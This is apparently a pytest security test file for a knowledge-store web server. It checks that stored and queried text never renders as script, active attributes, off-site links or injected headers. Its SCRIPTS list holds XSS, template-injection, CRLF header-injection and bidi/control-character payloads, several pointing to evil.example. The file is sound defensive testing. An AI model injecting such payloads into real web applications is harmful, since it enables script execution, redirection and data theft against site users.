"""Text that wants to be more than text, wherever a memory holds any."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from tests.servers.studio.conftest import Visitor

from recollect.faces.claims import Actor, Claim, EvidenceRef
from recollect.faces.claims.writing import Writer
from recollect.kernel import Nexus
from recollect.model import PutConcept, PutFact, PutLink

MARK = "m4rk"
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\u200b\u202e\u2066\u2028\ufeff]")
SCRIPTS = (
    f"<script>{MARK}()</script>",
    f"</title><script src=//evil.example/{MARK}></script>",
    f'"><img src=x onerror={MARK}()>',
    f"' autofocus onfocus={MARK}() x='",
    f"<svg/onload={MARK}()>",
    f"</textarea><iframe src=javascript:{MARK}()>",
    f"javascript:{MARK}()",
    f"{{{{ {MARK}.__class__ }}}}{{% raw %}}",
    f"${{{MARK}}}<style>@import'//evil.example/{MARK}'</style>",
    f"--><base href=//evil.example/{MARK}>",
    f"\x1b]8;;http://evil.example/{MARK}\x07x",
    f"a\u202e{MARK}\u2066\u200b",
    f"<form action=//evil.example/{MARK}><button>",
    f"<meta http-equiv=refresh content=0;url=//evil.example/{MARK}>",
    f"\ud7ff\ufeff{MARK}\u2028",
    f"x\r\nset-cookie: {MARK}=1",
)
LARGE = f"{MARK}<b>" + "y" * 1_000_000
PAGES = (
    "/",
    "/ask?q=m4rk",
    '/ask?q=FIND(?x, ?x.attributes) WHERE { ?x {type: "Thing"} }',
    "/ask?q=FIND(?l, ?l.metadata) WHERE { ?l (?s, ?p, ?o) }&as=tree",
    "/types?type=Thing",
    "/compare?from=0",
    "/claims",
    "/episodes",
    "/knowledge",
    "/markup",
    "/care",
    "/graph?id=hostile",
    "/element?id=hostile",
    "/element?id=link",
)


class Tags(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = dict(attrs)
        if tag in ("iframe", "object", "embed", "base", "style", "img"):
            self.found.append(tag)
        if tag == "script" and not (told.get("src") or "").startswith("/assets/"):
            self.found.append(f"script {told}")
        if tag == "meta" and "http-equiv" in told:
            self.found.append("meta")
        for name, value in told.items():
            if name.startswith("on") or name == "style":
                self.found.append(f"{tag} {name}")
            if name in ("href", "src", "action", "formaction") and not re.match(
                "[/#]", value or "#"
            ):
                self.found.append(f"{tag} {name}={value}")
            if name in ("href", "src", "action") and (value or "").startswith("//"):
                self.found.append(f"{tag} {name}={value}")


def fill(nexus: Nexus, text: str) -> None:
    plain = text.replace("\r\n", " ")
    nexus.write(
        [
            PutConcept(
                "Thing", plain, {text: text, "description": text}, {"source": text}, id="hostile"
            ),
            PutConcept("Thing", "other", {"name": text}, id="other"),
            PutLink("hostile", "p<script>", "other", {"note": text}, {"source": text}, id="link"),
            PutFact("other", "says", "hostile", text, metadata={"source": text}),
            PutConcept("SavedQuestion", plain, {"text": text}),
        ],
        actor=text[:100].replace("\r\n", " "),
        request_id="r",
    )
    evidence = EvidenceRef("artifact", artifact_id=text, path=text, url=text, detail=text)
    Writer(nexus).write([Claim(text, [evidence], id="c", project=text)], Actor("agent", "a"))
    nexus.write(
        [PutConcept("SavedQuestion", "more", {"text": f'FIND(?x WHERE {{ ?x {{name: "{MARK}'})]
    )


@pytest.mark.parametrize("number", range(len(SCRIPTS)))
def test_no_stored_text_becomes_markup_script_style_or_a_target(
    visitor: Visitor, nexus: Nexus, number: int
):
    fill(nexus, SCRIPTS[number])
    for path in PAGES:
        answer = visitor.http.get(path)
        assert answer.status_code in (200, 404), path
        if "text/html" not in answer.headers["content-type"]:
            continue
        tags = Tags()
        tags.feed(answer.text)
        assert tags.found == [], path
        shown = re.sub(r' value="[^"]*"|(?s:<textarea.*?</textarea>)', "", answer.text)
        assert OBEYED.search(shown.replace("\r\n", "\n")) is None, path


def test_a_large_text_makes_no_large_page(visitor: Visitor, nexus: Nexus):
    nexus.write([PutConcept("Thing", "big", {"description": LARGE, "list": [LARGE]}, id="hostile")])
    for path in PAGES:
        answer = visitor.http.get(path)
        assert answer.status_code in (200, 404) and len(answer.text) < 200_000, path


@pytest.mark.parametrize("text", SCRIPTS)
def test_what_is_asked_is_shown_as_it_was_asked(visitor: Visitor, text: str):
    for path in ("/ask", "/compare", "/types", "/element", "/graph"):
        answer = visitor.get(path, q=text, id=text, type=text, known="", **{"from": text})
        tags = Tags()
        if "text/html" in answer.headers["content-type"]:
            tags.feed(answer.text)
        assert tags.found == [], path
        assert "set-cookie" not in answer.headers or MARK not in answer.headers["set-cookie"]
